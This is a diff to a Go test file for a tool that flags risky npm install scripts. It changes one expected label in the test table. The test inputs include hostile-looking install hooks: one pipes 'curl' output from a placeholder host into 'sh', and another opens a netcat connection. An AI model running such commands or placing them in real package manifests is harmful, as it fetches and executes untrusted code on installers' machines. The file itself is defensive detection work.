@@ -316,7 +316,7 @@ func TestManifestTellsWhatItMakesNodeRun(t *testing.T) {
 		`{"scripts": {"postinstall": "node -e \"require('net')\""}}`:                            "module net",
 		`{"scripts": {"postinstall": "a=osa; ${a}script -e beep"}}`:                             "call start:osascript*",
 		`{"scripts": {"install": "curl -s http://kit.test/a | sh"}}`:                            "call install:fetch, call install:run-fetched",
-		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:interpret",
+		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:run-other",
 	} {
 		if got := uses(ReadManifest([]byte(src), nil)); got != want {
 			t.Errorf("%s: got %q, want %q", src, got, want)
